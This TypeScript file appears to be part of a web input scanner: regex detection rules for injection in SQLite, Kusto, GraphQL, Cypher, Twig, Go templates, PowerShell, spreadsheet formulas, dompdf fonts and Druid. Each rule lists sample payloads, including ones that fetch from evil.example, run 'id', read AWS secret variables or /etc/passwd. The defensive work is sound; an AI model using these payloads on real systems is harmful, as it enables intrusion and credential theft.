import { foundWithin } from '../lex/found-within.ts'
import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

const scriptFont = foundWithin({
  opening: /@font-face\b/,
  inside: /url\s{0,2}\(\s{0,2}["']?[^\s"'()]{1,160}\.(?:php\d?|phtml|phar|jspx?|aspx?)\b/,
  reach: 400,
  barriers: '}',
})

const PYTHON_NAME = /^__(?:globals|builtins|subclasses|mro|bases)__$/

function findPythonName(reading: Reading): Span | undefined {
  const { lower } = reading
  if (!PYTHON_NAME.test(lower)) return undefined
  const isReached = lower !== '__globals__' || /__(?:init|class|new|call|func)__\]?\{?$/.test(reading.name)
  return isReached ? { start: 0, end: lower.length } : undefined
}

/** How a value leaves its place in languages that few applications speak, and goes on in them. */
export const foreignLanguageRules: readonly Rule[] = [
  // Statements that SQL of one product has, and commands of Kusto, behind the end of a string.
  pattern(
    'sqli/foreign-stacked',
    /['"]\s{0,2}\){0,3}\s{0,2};\s{0,4}(?:attach\s{1,4}(?:database\s{1,4})?(?:if\s{1,4}not\s{1,4}exists\s{1,4})?['"]|execute\s{1,4}(?:function|procedure|block|immediate)\b|export\s{1,4}database\s|system\s{1,4}(?:shutdown|reload|flush|drop|stop|kill)\b|\.(?:drop|alter|create|create-or-alter|set|set-or-append|set-or-replace|append|ingest|show|delete|purge|clear)\s{1,4}(?:async\s{1,4})?(?:tables?|databases?|function|inline|into|extents|cluster|materialized-view)\b)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.semicolon,
      words: 0,
      attacks: [
        "'; ATTACH 'https://evil.example/x.db' AS e; --",
        "'; EXECUTE FUNCTION sysadmin:task('x');--",
        "x'); EXECUTE BLOCK AS BEGIN EXECUTE STATEMENT 'x'; END--",
        "'; .drop table Users //",
        "';SYSTEM SHUTDOWN--",
      ],
      benign: [
        "it's 'done'; attach the file",
        "'a'; execute it",
        '"a"; .show class',
        'create trigger t after insert on a execute function f();',
      ],
    },
  ),
  // A selection closed, and another one opened beside it (GraphQL, October 2021, section 2.5).
  pattern(
    'code/graphql-break',
    /^[\w .@-]{0,40}["']\s{0,2}\}?\s{0,2}\)\s{0,2}\{\s{0,4}[a-z_][\w\s]{0,60}\}\s{0,4}(?!(?:else|elseif|elif|catch|finally|while|if|for|return)\b)[a-z_]\w{0,40}\s{0,2}[({]/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.brace,
      attacks: ["'}) { id password } users { id } #", 'x") { id } users(first: 9) { token } }'],
      benign: [
        '{ user(id: "1") { id } posts { id } }',
        '"a") { b } else {',
        'user(id: "1") { id } posts {',
        '"a") { b }',
      ],
    },
  ),
  // A condition that always holds, and what to answer (AQL, Cypher).
  pattern(
    'nosqli/always-returned',
    /['"]\s{0,2}\)?\s{0,2}(?:\|\||&&|\bor\b|\band\b)\s{0,4}(?:true|(\d)\s{0,2}={1,2}\s{0,2}\1)\s{1,4}(?:return|let|for|with|match|detach|collect|remove)\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.apostrophe | CHAR.quote,
      attacks: [
        '" || true RETURN u //',
        "x' OR 1=1 WITH 1 AS a MATCH (n)",
        "' or true for u in users return u",
      ],
      benign: ['"a" or true', 'if "x" || true return;'.replace('return', 'then'), "it's true for all"],
    },
  ),
  // Functions of Twig that call what they are given by name.
  pattern(
    'template/named-callback',
    /\|\s{0,2}(?:map|filter|sort|reduce|find|column)\s{0,2}\(\s{0,2}["'](?:call_user_func(?:_array)?|proc_open|popen|pcntl_exec|file_put_contents|file_get_contents|phpinfo|array_map|usort|forward_static_call)["']/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.pipe,
      words: 0,
      attacks: [
        "{{{'id':'shell_exec'}|map('call_user_func')|join}}",
        "{{['x']|filter('file_get_contents')}}",
      ],
      benign: ["{{ list|map('name')|join }}", "call_user_func('x')"],
    },
  ),
  // Functions of templates of Go (Sprig, gomplate) that reach the system.
  pattern(
    'template/go-system',
    /\{\{-?\s{0,4}(?:(?:with|if|range)\s{1,4})?(?:\$\w{0,16}\s{0,2}:?=\s{0,2})?\(?\s{0,2}(?:lookup\s{1,4}["'`]v1["'`]\s{1,4}["'`]secret["'`]|(?:exec|shell|expandenv|gethostbyname|getenv)\s{1,4}["'`][^"'`\n]{1,80}["'`]|env\s{1,4}["'`]\w{0,40}(?:secret|password|passwd|token|key|credential)\w{0,40}["'`])[^{}\n]{0,80}(?:\||-?\}\})/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace,
      attacks: [
        '{{ exec "id" | safeHTML }}',
        '{{ env "AWS_SECRET_ACCESS_KEY" }}',
        '{{ expandenv "$HOME" }}',
        '{{ lookup "v1" "Secret" "a" "b" }}',
        '{{ with $x := exec "sh" "-c" "id" }}',
      ],
      benign: ['{{ env "HOME" }}', '{{ exec }}', '{{ title "exec" }}', '{{ t "shell" }}'],
    },
  ),
  // The debugger of Python as the start of what is evaluated, and a library brought in behind something else.
  pattern(
    'code/python-debugger',
    /^\s{0,4}(?:breakpoint\(\s{0,2}\)\s{0,2}(?:;|$)|import\s{1,4}i?pdb\s{0,2};\s{0,2}i?pdb\.)/,
    {
      score: 5,
      bare: true,
      quotable: true,
      atStart: true,
      chars: CHAR.paren,
      attacks: ['breakpoint();import os', 'breakpoint()', 'import pdb;pdb.set_trace()'],
      benign: ['breakpoint() stops there', 'set a breakpoint', 'import pdb'],
    },
  ),
  // A part of the runtime of Ruby by its name.
  pattern(
    'code/ruby-constant',
    /\bconst_get\s{0,2}\(?\s{0,2}[:'"](?:kernel|process|io|file|dir|open3|erb)\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.process,
      attacks: ["Object.const_get(:Kernel).system('id')", 'Object.const_get("IO")'],
      benign: ['Object.const_get(:User)', 'const_get'],
    },
  ),
  // Commands of PowerShell put together from pieces, so that nobody knows them.
  pattern(
    'rce/joined-cmdlet',
    /\[char\]\s{0,2}(?:0x)?[\da-f]{2,3}\s{0,2}\+\s{0,2}\[char\]|[&.]\s{0,2}\(\s{0,2}\(?\s{0,2}(?:["'][^"'\n]{1,16}["']\s{0,2}\+\s{0,2}["']|["'](?:\{\d\}){2,9}["']\s{0,2}-f\b)/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.bracket | CHAR.apostrophe | CHAR.quote,
      attacks: [
        '& $([char]105+[char]101+[char]120) "x"',
        "$(&('ie'+'x') 'whoami')",
        '.("{1}{0}"-f"x","ie")',
        "&('ie'+'x')",
        '[char]105+[char]101',
      ],
      benign: ["f('a' + 'b')", '[char] 65', "x && ('a' === b)", 'a.("b")'],
    },
  ),
  // A function of the runtime where a server of pages looks for one of its own actions.
  pattern(
    'code/module-export',
    /^\s{0,2}(?:node:)?(?:child_process|vm|fs|module|worker_threads)#\w{2,40}\s{0,2}$/,
    {
      score: 5,
      atStart: true,
      chars: CHAR.hash,
      places: ['body', 'cookie'],
      attacks: ['child_process#execSync', 'node:vm#runInThisContext', 'fs#readFileSync'],
      benign: ['fs # a', 'actions#create', 'child_process'],
    },
  ),
  // A cell that starts a program.
  pattern(
    'rce/formula-program',
    /^\s{0,2}[=+@-]\s{0,2}(?:dde|rtd|call|exec|register)\s{0,2}\(\s{0,2}["'][^\n]{0,40}\b(?:cmd|powershell|pwsh|mshta|kernel32|urlmon|shell32|rundll32)\b/,
    {
      score: 5,
      quotable: true,
      atStart: true,
      chars: CHAR.paren,
      attacks: ['=DDE("cmd";"/C calc";"x")', '=RTD("x",,"cmd")', '=CALL("urlmon","URLDownloadToFileA","x")'],
      benign: ['=RTD("tos.rtd",,"LAST","SPY")', '=SUM(A1)', '=CALL(A1)'],
    },
  ),
  // A font that is a script: who draws the page keeps it under its own name (dompdf).
  {
    id: 'rfi/script-font',
    family: 'rfi',
    score: 5,
    quotable: true,
    chars: CHAR.paren,
    words: 0,
    needs: [/@font-face/],
    isAnywhere: true,
    find: ({ lower }) => scriptFont(lower),
    attacks: ["<style>@font-face{font-family:'x';src:url('http://evil.example/x.php')}</style>"],
    benign: ["@font-face{font-family:x;src:url('/x.woff2')}", '@font-face{a:b}a{b:url(x.php)}', 'x.php'],
  },
  // A script where a server of pages runs it, as the file that a program writes.
  pattern(
    'rce/written-script',
    /(?:^|\s)(?:-{1,2}(?:file|out|output|o|outfile|output-file|target|logfile)[\s=]|\/out(?:put)?[\s:=])\s{0,2}["']?[^\s"'<>|]{0,24}(?: [^\s"'<>|]{1,24}){0,4}[\\/](?:webapps|wwwroot|htdocs|public_html)[\\/][\w\\/.-]{0,80}\.(?:jspx?|aspx?|ashx|php\d?|phtml|cfm)\b/,
    {
      score: 5,
      quotable: true,
      words: WORD.file,
      attacks: [
        'qlogin -u x -file "C:\\Program Files\\x\\webapps\\ROOT\\shell.jsp"',
        '--output=/var/www/htdocs/x.php',
      ],
      benign: ['-file /srv/webapps/app.war', 'see /var/www/htdocs/x.php', '-o out.php'],
    },
  ),
  // Tables of Druid made of files of the server.
  pattern(
    'sqli/extern-file',
    /\bextern\s{0,2}\(\s{0,2}\\?'\s{0,2}\{[^}\n]{0,160}\\?"basedir\\?"\s{0,2}:\s{0,2}\\?"\/(?:etc|root|home|proc|var|opt|tmp)\b/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace,
      attacks: [`TABLE(EXTERN('{"type":"local","baseDir":"/etc","filter":"passwd"}','{}'))`],
      benign: [`TABLE(EXTERN('{"type":"local","baseDir":"quickstart/"}'))`, 'extern (c)'],
    },
  ),
  // Names by which objects of Python lead to the program that they live in. Page builders have globals, too.
  {
    id: 'prototype/python-name',
    family: 'prototype',
    score: 5,
    quotable: false,
    atStart: true,
    chars: 0,
    words: WORD.runtime,
    places: ['name'],
    needs: [PYTHON_NAME],
    find: findPythonName,
    attacks: ['__subclasses__', '__mro__', '__builtins__'],
    benign: ['__class__', '__init__', '__globals__', '__typename'],
  },
  // What the objects of Magento are built of, and the class that Ruby makes of a document: no page sends it.
  pattern(
    'deserialisation/built-part',
    /^(?:totalscollector|collectorlist|totalcollector|dataisurl|json_class)$/,
    {
      score: 5,
      atStart: true,
      places: ['name'],
      words: WORD.java,
      attacks: ['totalsCollector', 'collectorList', 'dataIsURL', 'json_class'],
      benign: ['collector', 'totals', 'dataurl'],
    },
  ),
]
